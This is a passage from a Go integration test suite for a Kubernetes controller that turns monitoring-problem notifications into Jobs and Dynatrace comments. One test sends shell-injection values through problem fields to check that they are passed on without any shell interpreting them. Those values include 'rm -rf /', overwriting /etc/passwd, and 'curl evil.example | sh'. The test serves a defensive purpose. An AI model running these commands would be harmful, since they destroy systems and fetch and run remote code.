package controllers_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	"k8s.io/apimachinery/pkg/api/meta"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	problemhookv1alpha1 "github.com/problemhook/problemhook/api/v1alpha1"
	"github.com/problemhook/problemhook/controllers/problemevent"
	"github.com/problemhook/problemhook/internal/dynatrace/dynatracetest"
	"github.com/problemhook/problemhook/internal/jobs"
	"github.com/problemhook/problemhook/internal/metrics"
	"github.com/problemhook/problemhook/internal/payload"
	"github.com/problemhook/problemhook/test/harness/controlplane"
)

// These tests drive ProblemEvents through a real API server, with a fake
// Dynatrace. No Job controller or kubelet runs here: finishJob plays their
// part, writing Pod and Job status as they would.

// A notification posted to the receiver becomes Jobs for exactly the
// matching routes, and Dynatrace gets one comment that says how they ended.
func TestNotificationBecomesJobsAndAComment(t *testing.T) {
	f := newFixture(t)
	f.dt.AddProblem(richProblem())
	f.route("legacy-incident", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}},
		jobAction(t, "incident", true, 5))
	f.route("availability", problemhookv1alpha1.RouteMatch{Severities: []string{"AVAILABILITY"}}, jobAction(t, "page", false, 1))

	jobsSucceeded := func() float64 {
		return controlplane.MetricSum(t, metrics.ActionsName, map[string]string{"type": "Job", "result": "succeeded"})
	}
	dynatraceCalls := func(endpoint, code string) float64 {
		return controlplane.MetricSum(t, metrics.DynatraceRequestsName, map[string]string{"endpoint": endpoint, "code": code})
	}
	succeededBefore, postsBefore := jobsSucceeded(), dynatraceCalls("POST /problems/{problemId}/comments", "201")

	// The payload of the old Python webhook's sample: the rest comes from the API.
	body := `{"State":"OPEN","ProblemID":"1234","PID":"` + pid + `"}`
	f.notify(body)

	for _, j := range f.waitJobs(2) {
		f.g.Expect(j.Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelRoute, "legacy-incident"))
		f.finishJob(&j, 0)
	}
	ev := &problemhookv1alpha1.ProblemEvent{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: problemhookv1alpha1.EventName("dynatrace", pid, problemhookv1alpha1.StateOpen)}}
	got := f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseSucceeded))
		g.Expect(ev.Status.Comment).NotTo(BeNil())
	})
	want := "problemhook ran Job legacy-incident/incident for 2 impacted entities: 2 succeeded\nProblemEvent " + f.ns + "/" + ev.Name
	f.g.Expect(got.Status.Comment.Message).To(Equal(want))
	f.g.Expect(f.dt.Comments(pid)).To(ConsistOf(And(HaveField("Content", want), HaveField("Context", "problemhook"))))
	// Runs are counted once their settling is stored, a moment after the
	// status the test read.
	f.g.Eventually(func() float64 { return jobsSucceeded() - succeededBefore }).Should(Equal(2.0))
	f.g.Expect(dynatraceCalls("POST /problems/{problemId}/comments", "201") - postsBefore).To(Equal(1.0))
}

func TestMatchingRoutesRunJobsAndCommentOnce(t *testing.T) {
	f := newFixture(t)
	f.dt.AddProblem(richProblem())
	open := []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}
	f.route("legacy", problemhookv1alpha1.RouteMatch{States: open, Severities: []string{"RESOURCE_CONTENTION"}, ManagementZones: []string{"Shop"}},
		jobAction(t, "incident", true, 5))
	f.route("cel", problemhookv1alpha1.RouteMatch{Expression: `problem.title.contains("CPU") && problem.tags.exists(t, t == "env:prod")`},
		jobAction(t, "audit", false, 1))
	f.route("availability", problemhookv1alpha1.RouteMatch{Severities: []string{"AVAILABILITY"}}, jobAction(t, "page", false, 1))
	f.route("memory", problemhookv1alpha1.RouteMatch{Expression: `problem.title.contains("memory")`}, jobAction(t, "page", false, 1))
	f.route("resolved", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateResolved}}, jobAction(t, "close", false, 1))

	// The minimal payload of the old webhook: the rest comes from the API.
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})

	jobs := f.waitJobs(3)
	byRoute := map[string][]batchv1.Job{}
	for _, j := range jobs {
		byRoute[j.Labels[problemhookv1alpha1.LabelRoute]] = append(byRoute[j.Labels[problemhookv1alpha1.LabelRoute]], j)
		f.g.Expect(j.Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelEvent, ev.Name))
		f.g.Expect(metav1.IsControlledBy(&j, f.get(ev))).To(BeTrue(), "Job %s is owned by its event", j.Name)
		f.g.Expect(len(j.Name)).To(BeNumerically("<=", 63))
	}
	f.g.Expect(byRoute).To(HaveLen(2))
	f.g.Expect(byRoute["legacy"]).To(HaveLen(2))
	f.g.Expect(byRoute["cel"]).To(HaveLen(1))
	entities := []string{}
	for _, j := range byRoute["legacy"] {
		e := env(j.Spec.Template.Spec.Containers[0])
		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_ID", pid))
		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_DISPLAY_ID", "1234"))
		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_TITLE", "CPU saturation"))
		f.g.Expect(e).To(HaveKeyWithValue("PROBLEM_TAGS", "env:prod"))
		f.g.Expect(e).To(HaveKeyWithValue("ENTITY_TYPE", "HOST"))
		entities = append(entities, e["ENTITY_ID"]+"="+e["ENTITY_NAME"])
		f.g.Expect(*j.Spec.BackoffLimit).To(Equal(int32(5)), "the route's default retry limit")
	}
	f.g.Expect(entities).To(ConsistOf("HOST-0000000000000001=web01", "HOST-0000000000000002=web02"))

	got := f.eventually(ev, phase(problemhookv1alpha1.PhaseRunning))
	f.g.Expect(got.Status.Details).NotTo(BeNil())
	f.g.Expect(got.Status.Details.DisplayID).To(Equal("P-1234"))
	f.g.Expect(got.Status.Details.RootCause).To(Equal("web01 (HOST-0000000000000001)"))
	f.g.Expect(got.Status.Details.Evidence).To(Equal([]string{"METRIC: CPU saturation on web01 (root cause)"}))
	f.g.Expect(meta.IsStatusConditionTrue(got.Status.Conditions, problemhookv1alpha1.ConditionEnriched)).To(BeTrue())
	f.g.Eventually(func(g Gomega) string {
		var legacy problemhookv1alpha1.IntegrationRoute
		g.Expect(k8s.Get(f.ctx, client.ObjectKey{Namespace: f.ns, Name: "legacy"}, &legacy)).To(Succeed())
		return legacy.Status.LastMatchedEvent
	}).Should(Equal(ev.Name), "the last match is written within MatchNoteInterval")

	f.finishJob(&byRoute["legacy"][0], 0)
	f.finishJob(&byRoute["legacy"][1], 3)
	f.finishJob(&byRoute["cel"][0], 0)

	got = f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseFailed))
		g.Expect(ev.Status.Comment).NotTo(BeNil())
	})
	f.g.Expect(got.Status.Actions).To(HaveLen(3))
	for _, a := range got.Status.Actions {
		f.g.Expect(a.Type).To(Equal("Job"))
		f.g.Expect(a.ExitCode).NotTo(BeNil())
		f.g.Expect(a.Attempts).To(Equal(int32(1)))
		f.g.Expect(a.StartTime).NotTo(BeNil())
		f.g.Expect(a.CompletionTime).NotTo(BeNil())
		switch *a.ExitCode {
		case 0:
			f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionSucceeded))
		case 3:
			f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionFailed))
			f.g.Expect(a.Message).To(ContainSubstring("BackoffLimitExceeded"))
		}
	}
	ready := meta.FindStatusCondition(got.Status.Conditions, problemhookv1alpha1.ConditionReady)
	f.g.Expect(ready.Status).To(Equal(metav1.ConditionTrue))
	f.g.Expect(ready.Reason).To(Equal(problemhookv1alpha1.ReasonFailed))

	want := "problemhook ran Job cel/audit: succeeded\n" +
		"problemhook ran Job legacy/incident for 2 impacted entities: 1 succeeded, 1 failed (exit code 3)\n" +
		"ProblemEvent " + f.ns + "/" + ev.Name
	f.g.Expect(got.Status.Comment.Posted).To(BeTrue())
	f.g.Expect(got.Status.Comment.Message).To(Equal(want))
	comments := f.dt.Comments(pid)
	f.g.Expect(comments).To(HaveLen(1))
	f.g.Expect(comments[0].Content).To(Equal(want))
	f.g.Expect(comments[0].Context).To(Equal(problemevent.CommentContext))

	// A restart finds everything done: no second Job, no second comment.
	f.restart()
	f.g.Consistently(func(g Gomega) {
		g.Expect(f.jobs(g)).To(HaveLen(3))
		g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
	}).WithTimeout(time.Second).Should(Succeed())
}

func TestRestartResumesWithoutSecondJobOrComment(t *testing.T) {
	f := newFixture(t)
	f.dt.AddProblem(richProblem())
	f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
	job := f.waitJobs(1)[0]
	f.eventually(ev, phase(problemhookv1alpha1.PhaseRunning))

	// The manager dies while the Job runs; the Job ends meanwhile.
	f.stop()
	f.finishJob(&job, 0)
	f.stop, f.receiver = startEventManager(t, f.ns)
	f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseSucceeded))
		g.Expect(ev.Status.Comment).NotTo(BeNil())
	})
	f.g.Expect(f.dt.Comments(pid)).To(HaveLen(1))

	// The manager dies after creating the Job and posting the comment but
	// before it could record either: the status it stored is gone.
	f.stop()
	got := f.get(ev)
	got.Status = problemhookv1alpha1.ProblemEventStatus{}
	f.g.Expect(k8s.Status().Update(f.ctx, got)).To(Succeed())
	f.stop, f.receiver = startEventManager(t, f.ns)
	got = f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
		g.Expect(ev.Status.Phase).To(Equal(problemhookv1alpha1.PhaseSucceeded))
		g.Expect(ev.Status.Comment).NotTo(BeNil())
	})
	f.g.Expect(got.Status.Actions).To(HaveLen(1))
	f.g.Expect(got.Status.Actions[0].Job).To(Equal(job.Name))
	f.g.Expect(got.Status.Comment.Posted).To(BeTrue())
	f.g.Expect(f.jobs(f.g)).To(HaveLen(1))
	f.g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
}

func TestFanOutHonoursParallelismAndEnrichmentFailureBlocksNothing(t *testing.T) {
	f := newFixture(t)
	// The fake Dynatrace does not know the problem: enrichment fails.
	f.route("legacy", problemhookv1alpha1.RouteMatch{EntityTypes: []string{"HOST"}}, jobAction(t, "incident", true, 2))
	var entities []problemhookv1alpha1.ImpactedEntity
	for i := range 5 {
		entities = append(entities, problemhookv1alpha1.ImpactedEntity{ID: fmt.Sprintf("HOST-%016d", i), Name: fmt.Sprintf("web%02d", i), Type: "HOST"})
	}
	entities = append(entities, problemhookv1alpha1.ImpactedEntity{ID: "SERVICE-0000000000000001", Name: "checkout", Type: "SERVICE"})
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: "unknown-problem", DisplayID: "77", State: problemhookv1alpha1.StateOpen,
		Title: "Host unavailable", ImpactedEntities: entities})

	got := f.eventually(ev, phase(problemhookv1alpha1.PhaseRunning))
	enriched := meta.FindStatusCondition(got.Status.Conditions, problemhookv1alpha1.ConditionEnriched)
	f.g.Expect(enriched).NotTo(BeNil())
	f.g.Expect(enriched.Status).To(Equal(metav1.ConditionFalse))
	f.g.Expect(enriched.Reason).To(Equal(problemhookv1alpha1.ReasonEnrichmentFailed))
	f.g.Expect(enriched.Message).To(ContainSubstring("404"))
	f.g.Expect(got.Status.Actions).To(HaveLen(5), "one run per HOST; the SERVICE does not pass entityTypes")

	finished := map[string]bool{}
	for len(finished) < 5 {
		jobs := f.waitJobs(min(len(finished)+2, 5))
		f.g.Consistently(func(g Gomega) {
			g.Expect(len(f.jobs(g))).To(Equal(min(len(finished)+2, 5)), "never more than parallelism running")
		}).WithTimeout(300 * time.Millisecond).Should(Succeed())
		for i := range jobs {
			if !finished[jobs[i].Name] {
				finished[jobs[i].Name] = true
				f.finishJob(&jobs[i], 0)
				break
			}
		}
	}
	got = f.eventually(ev, phase(problemhookv1alpha1.PhaseSucceeded))
	for _, a := range got.Status.Actions {
		f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionSucceeded))
		f.g.Expect(a.Entity).To(HavePrefix("HOST-"))
	}
	// One Event for each reconcile that created Jobs: the first two
	// together, then one at a time as each finished. Each Job is named in
	// exactly one of them.
	f.g.Eventually(func(g Gomega) {
		var events eventsv1.EventList
		g.Expect(k8s.List(f.ctx, &events, client.InNamespace(f.ns))).To(Succeed())
		var notes []string
		for _, e := range events.Items {
			if e.Reason == "JobsCreated" {
				notes = append(notes, e.Note)
			}
		}
		g.Expect(notes).To(HaveLen(4))
		g.Expect(notes).To(ContainElement(HavePrefix("Created 2 Jobs: ")))
		for name := range finished {
			g.Expect(notes).To(ContainElement(ContainSubstring(name + " for IntegrationRoute legacy action incident")))
			g.Expect(strings.Count(strings.Join(notes, "\n"), name)).To(Equal(1), name)
		}
	}).Should(Succeed())
	// Commenting on a problem Dynatrace does not know fails for good: recorded, not retried.
	f.g.Expect(got.Status.Comment).NotTo(BeNil())
	f.g.Expect(got.Status.Comment.Posted).To(BeFalse())
	f.g.Expect(got.Status.Comment.Message).To(ContainSubstring("404"))
}

// Events of one target share one Dynatrace client and its connections.
func TestEventsOfATargetShareDynatraceConnections(t *testing.T) {
	f := newFixture(t)
	f.route("legacy", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateResolved}}, jobAction(t, "incident", false, 1))
	const problems = 10
	var evs []*problemhookv1alpha1.ProblemEvent
	for i := range problems {
		p := richProblem()
		p.ProblemID = fmt.Sprintf("%d_1V2", i)
		f.dt.AddProblem(p)
		// OPEN events match no route here: they are enriched, one at a time.
		evs = append(evs, f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: p.ProblemID, State: problemhookv1alpha1.StateOpen}))
		f.eventually(evs[i], phase(problemhookv1alpha1.PhaseSkipped))
	}
	for _, ev := range evs {
		f.g.Expect(meta.IsStatusConditionTrue(f.get(ev).Status.Conditions, problemhookv1alpha1.ConditionEnriched)).To(BeTrue())
	}
	f.g.Expect(f.dt.Connections()).To(BeNumerically("<", problems/2), "connections are reused, not opened per event")
}

func TestDynatraceRateLimitsAndServerErrorsAreRetried(t *testing.T) {
	f := newFixture(t)
	f.dt.AddProblem(richProblem())
	f.dt.FailNext("GET", "", 1, 429, "1")
	f.dt.FailNext("GET", "", 1, 503, "")
	f.dt.FailNext("POST", "/comments", 2, 500, "")
	f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
	f.finishJob(&f.waitJobs(1)[0], 0)
	got := f.eventually(ev, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
		g.Expect(ev.Status.Comment).NotTo(BeNil())
	})
	f.g.Expect(meta.IsStatusConditionTrue(got.Status.Conditions, problemhookv1alpha1.ConditionEnriched)).To(BeTrue())
	f.g.Expect(got.Status.Comment.Posted).To(BeTrue())
	f.g.Expect(f.dt.Comments(pid)).To(HaveLen(1))
	var posts int
	for _, r := range f.dt.Requests() {
		if r.Method == http.MethodPost {
			posts++
		}
	}
	f.g.Expect(posts).To(Equal(3), "two refused with 500, then one stored")
}

func TestResolvedStopsRunningJobs(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	f.route("legacy", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}},
		jobAction(t, "incident", true, 1))
	keep := jobAction(t, "audit", false, 1)
	keep.Job.StopOnResolve = new(false)
	f.route("keep", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}}, keep)
	spec := problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen, ImpactedEntities: []problemhookv1alpha1.ImpactedEntity{
		{ID: "HOST-1", Name: "web01", Type: "HOST"}, {ID: "HOST-2", Name: "web02", Type: "HOST"},
	}}
	open := f.event(spec)
	f.waitJobs(2) // legacy's first entity (parallelism 1) and keep's Job
	f.eventually(open, phase(problemhookv1alpha1.PhaseRunning))

	spec.State = problemhookv1alpha1.StateResolved
	resolved := f.event(spec)
	got := f.eventually(open, func(g Gomega, ev *problemhookv1alpha1.ProblemEvent) {
		for _, a := range ev.Status.Actions {
			if a.Route == "legacy" {
				g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionStopped))
			}
		}
	})
	var stoppedRunning, neverStarted int
	for _, a := range got.Status.Actions {
		switch {
		case a.Route == "keep":
			f.g.Expect(a.State).To(Equal(problemhookv1alpha1.ActionRunning), "stopOnResolve: false keeps it running")
		case a.Job != "":
			stoppedRunning++
			f.g.Expect(a.Message).To(Equal("Stopped: the problem resolved (ProblemEvent " + resolved.Name + "); Job " + a.Job + " deleted"))
		default:
			neverStarted++
			f.g.Expect(a.Message).To(Equal("Not started: the problem resolved (ProblemEvent " + resolved.Name + ")"))
		}
	}
	f.g.Expect([]int{stoppedRunning, neverStarted}).To(Equal([]int{1, 1}))
	jobs := f.waitJobs(1)
	f.g.Expect(jobs[0].Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelRoute, "keep"))
	f.eventually(resolved, phase(problemhookv1alpha1.PhaseSkipped))
}

func TestRouteChangeDoesNotRerunFinishedActions(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	ir := f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})
	f.finishJob(&f.waitJobs(1)[0], 0)
	before := f.eventually(ev, phase(problemhookv1alpha1.PhaseSucceeded))

	// The route gets a new template and a second action; the manager restarts.
	updateRoute(f.g, ir, func(ir *problemhookv1alpha1.IntegrationRoute) {
		ir.Spec.Actions[0].Job.Template = jobTemplate(t, func(j *batchv1.JobTemplateSpec) {
			j.Spec.Template.Spec.Containers[0].Image = "registry.example/legacy:2"
		})
		ir.Spec.Actions = append(ir.Spec.Actions, jobAction(t, "another", false, 1))
	})
	f.restart()
	f.g.Consistently(func(g Gomega) {
		g.Expect(f.jobs(g)).To(HaveLen(1))
		var got problemhookv1alpha1.ProblemEvent
		g.Expect(k8s.Get(f.ctx, client.ObjectKeyFromObject(ev), &got)).To(Succeed())
		g.Expect(got.Status.Actions).To(Equal(before.Status.Actions))
	}).WithTimeout(2 * time.Second).Should(Succeed())
}

func TestProblemDataReachesJobsByteForByte(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	action := jobAction(t, "incident", true, 1)
	action.Job.Template = jobTemplate(t, func(j *batchv1.JobTemplateSpec) {
		j.Spec.Template.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "MODE", Value: "incident"}}
	})
	f.route("legacy", problemhookv1alpha1.RouteMatch{}, action)
	title := "CPU $(rm -rf /); `reboot` && echo \"quoted\" 'single' | tee /etc/passwd\nsecond line \\ end"
	name := "web01\"; curl evil.example | sh; echo '"
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen, Title: title,
		ImpactedEntities: []problemhookv1alpha1.ImpactedEntity{{ID: "HOST-1", Name: name, Type: "HOST"}}})

	job := f.waitJobs(1)[0]
	c := job.Spec.Template.Spec.Containers[0]
	f.g.Expect(c.Command).To(Equal([]string{"/legacy"}), "no shell is put in front of the command")
	f.g.Expect(c.Args).To(Equal([]string{"--problem", "$(PROBLEM_DISPLAY_ID)", "--entity", "$(ENTITY_NAME)"}), "the kubelet, not problemhook, expands the arguments")
	e := env(c)
	f.g.Expect(e["PROBLEM_TITLE"]).To(Equal(title))
	f.g.Expect(e["ENTITY_NAME"]).To(Equal(name))
	f.g.Expect(e["PROBLEM_EVENT"]).To(Equal(ev.Name))
	f.g.Expect(e["MODE"]).To(Equal("incident"))
	f.g.Expect(c.Env[len(c.Env)-1].Name).To(Equal("MODE"), "the template's own variables come after problemhook's")
	var problem struct {
		Title            string `json:"title"`
		ImpactedEntities []struct {
			Name string `json:"name"`
		} `json:"impactedEntities"`
	}
	f.g.Expect(json.Unmarshal([]byte(e["PROBLEM_JSON"]), &problem)).To(Succeed())
	f.g.Expect(problem.Title).To(Equal(title))
	f.g.Expect(problem.ImpactedEntities[0].Name).To(Equal(name))
}

func TestActionsOfARouteRunInOrder(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	sms := problemhookv1alpha1.Action{Name: "sms", Twilio: &problemhookv1alpha1.TwilioAction{
		CredentialsSecretRef: problemhookv1alpha1.LocalObjectReference{Name: "twilio"}, From: "+18652699000", To: []string{"+4917000000"}, Body: "{{.Title}}",
	}}
	f.route("legacy", problemhookv1alpha1.RouteMatch{}, jobAction(t, "first", false, 1), jobAction(t, "second", false, 1), sms)
	ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})

	first := f.waitJobs(1)[0]
	f.g.Expect(first.Labels).To(HaveKeyWithValue(problemhookv1alpha1.LabelAction, "first"))
	f.g.Consistently(func(g Gomega) { g.Expect(f.jobs(g)).To(HaveLen(1)) }).WithTimeout(300 * time.Millisecond).Should(Succeed())
	f.finishJob(&first, 1)
	jobs := f.waitJobs(2)
	second := jobs[slices.IndexFunc(jobs, func(j batchv1.Job) bool { return j.Labels[problemhookv1alpha1.LabelAction] == "second" })]
	f.finishJob(&second, 0)
	got := f.eventually(ev, phase(problemhookv1alpha1.PhaseFailed))
	f.g.Expect(got.Status.Actions).To(HaveLen(3))
	f.g.Expect(got.Status.Actions[2]).To(And(
		HaveField("Type", problemhookv1alpha1.ActionTypeTwilio),
		HaveField("State", problemhookv1alpha1.ActionFailed),
		HaveField("Message", "IntegrationRoute legacy action sms: twilio.credentialsSecretRef: Secret "+f.ns+"/twilio not found"),
	))
}

func TestTestNotifications(t *testing.T) {
	for _, tc := range []struct {
		policy    problemhookv1alpha1.TestNotificationPolicy
		wantPhase problemhookv1alpha1.EventPhase
		wantJobs  []string
	}{
		{problemhookv1alpha1.TestNotificationsRecord, problemhookv1alpha1.PhaseSkipped, nil},
		{problemhookv1alpha1.TestNotificationsRun, problemhookv1alpha1.PhaseRunning, []string{"tests"}},
	} {
		t.Run(string(tc.policy), func(t *testing.T) {
			f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.TestNotifications = tc.policy })
			f.route("real", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
			tests := f.route("tests", problemhookv1alpha1.RouteMatch{}, jobAction(t, "incident", false, 1))
			updateRoute(f.g, tests, func(ir *problemhookv1alpha1.IntegrationRoute) { ir.Spec.IncludeTestNotifications = true })
			ev := f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: "99999", DisplayID: "999", State: problemhookv1alpha1.StateOpen, Test: true})
			f.eventually(ev, phase(tc.wantPhase))
			f.g.Consistently(func(g Gomega) {
				var routes []string
				for _, j := range f.jobs(g) {
					routes = append(routes, j.Labels[problemhookv1alpha1.LabelRoute])
				}
				g.Expect(routes).To(Equal(tc.wantJobs))
			}).WithTimeout(500 * time.Millisecond).Should(Succeed())
			var calls []dynatracetest.Request
			for _, r := range f.dt.Requests() {
				if !credentialCheck(r) {
					calls = append(calls, r)
				}
			}
			f.g.Expect(calls).To(BeEmpty(), "a test notification is neither enriched nor commented")
		})
	}
}

func TestJobsAreRestrictedWhereTheTemplateIsSilent(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	f.route("silent", problemhookv1alpha1.RouteMatch{}, jobAction(t, "run", false, 1))
	explicit := jobAction(t, "run", false, 1)
	explicit.Job.Template = jobTemplate(t, func(j *batchv1.JobTemplateSpec) {
		j.Spec.TTLSecondsAfterFinished = new(int32(60))
		j.Spec.ActiveDeadlineSeconds = new(int64(30))
		j.Spec.Template.Spec.SecurityContext = &corev1.PodSecurityContext{RunAsUser: new(int64(1000))}
		j.Spec.Template.Spec.Containers[0].SecurityContext = &corev1.SecurityContext{
			Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"NET_BIND_SERVICE"}, Drop: []corev1.Capability{"ALL"}},
		}
	})
	f.route("explicit", problemhookv1alpha1.RouteMatch{}, explicit)
	f.event(problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen})

	byRoute := map[string]batchv1.Job{}
	for _, j := range f.waitJobs(2) {
		byRoute[j.Labels[problemhookv1alpha1.LabelRoute]] = j
	}
	silent := byRoute["silent"]
	f.g.Expect(*silent.Spec.TTLSecondsAfterFinished).To(Equal(int32(jobs.DefaultJobTTL.Seconds())))
	f.g.Expect(*silent.Spec.ActiveDeadlineSeconds).To(Equal(int64(jobs.DefaultJobDeadline.Seconds())), "a Job that cannot run still ends")
	f.g.Expect(silent.Spec.Template.Spec.SecurityContext).To(Equal(&corev1.PodSecurityContext{
		RunAsNonRoot: new(true), SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault},
	}))
	f.g.Expect(silent.Spec.Template.Spec.Containers[0].SecurityContext).To(Equal(&corev1.SecurityContext{
		AllowPrivilegeEscalation: new(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}},
	}))
	mine := byRoute["explicit"]
	f.g.Expect(*mine.Spec.TTLSecondsAfterFinished).To(Equal(int32(60)))
	f.g.Expect(*mine.Spec.ActiveDeadlineSeconds).To(Equal(int64(30)))
	f.g.Expect(*mine.Spec.Template.Spec.SecurityContext.RunAsUser).To(Equal(int64(1000)))
	f.g.Expect(*mine.Spec.Template.Spec.SecurityContext.RunAsNonRoot).To(BeTrue())
	f.g.Expect(mine.Spec.Template.Spec.Containers[0].SecurityContext.Capabilities.Add).To(ConsistOf(corev1.Capability("NET_BIND_SERVICE")))
}

// A Job that holds the name of a run's Job but was not created for the
// event is neither adopted nor, on RESOLVED, deleted: the run fails and
// says why.
func TestJobThatIsNotTheEventsIsLeftAlone(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	f.route("legacy", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}},
		jobAction(t, "incident", false, 1))
	evName := problemhookv1alpha1.EventName(f.target.Name, pid, problemhookv1alpha1.StateOpen)
	name := jobs.Name(evName, "legacy", "incident", "")
	foreign := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Namespace: f.ns, Name: name}, Spec: batchv1.JobSpec{
		Template: corev1.PodTemplateSpec{Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever,
			Containers: []corev1.Container{{Name: "other", Image: "registry.example/other:1"}}}},
	}}
	f.create(foreign)

	spec := problemhookv1alpha1.ProblemEventSpec{ProblemID: pid, DisplayID: "1234", State: problemhookv1alpha1.StateOpen}
	open := f.event(spec)
	got := f.eventually(open, phase(problemhookv1alpha1.PhaseFailed))
	f.g.Expect(got.Status.Actions).To(HaveLen(1))
	f.g.Expect(got.Status.Actions[0].State).To(Equal(problemhookv1alpha1.ActionFailed))
	f.g.Expect(got.Status.Actions[0].Message).To(Equal("Job " + name + " exists but was not created for ProblemEvent " + evName + ": it is left alone, and this run does not use it"))

	spec.State = problemhookv1alpha1.StateResolved
	f.eventually(f.event(spec), phase(problemhookv1alpha1.PhaseSkipped))
	jobs := f.waitJobs(1)
	f.g.Expect(jobs[0].UID).To(Equal(foreign.UID))
	f.g.Expect(jobs[0].DeletionTimestamp).To(BeNil())
	f.g.Expect(jobs[0].OwnerReferences).To(BeEmpty())
}

// A Guance recovery carries the df_fault_id of its alert, so it resolves
// the alert's problem as a Dynatrace RESOLVED does: the two events share
// the problem-id label, and the alert's running Job is stopped.
func TestGuanceRecoveryStopsItsAlertsJobs(t *testing.T) {
	f := newFixture(t, func(nt *problemhookv1alpha1.NotificationTarget) { nt.Spec.Dynatrace = nil })
	f.route("legacy", problemhookv1alpha1.RouteMatch{States: []problemhookv1alpha1.ProblemState{problemhookv1alpha1.StateOpen}},
		jobAction(t, "incident", false, 1))
	parse := func(name string) problemhookv1alpha1.ProblemEventSpec {
		data, err := os.ReadFile(filepath.Join("..", "internal", "payload", "testdata", name))
		f.g.Expect(err).NotTo(HaveOccurred())
		spec, err := payload.ParseGuance(data)
		f.g.Expect(err).NotTo(HaveOccurred())
		return *spec
	}
	alert := f.event(parse("guance-warning.json"))
	job := f.waitJobs(1)[0]
	f.eventually(alert, phase(problemhookv1alpha1.PhaseRunning))

	recovery := f.event(parse("guance-ok.json"))
	f.g.Expect(recovery.Labels[problemhookv1alpha1.LabelProblemID]).To(Equal(alert.Labels[problemhookv1alpha1.LabelProblemID]))
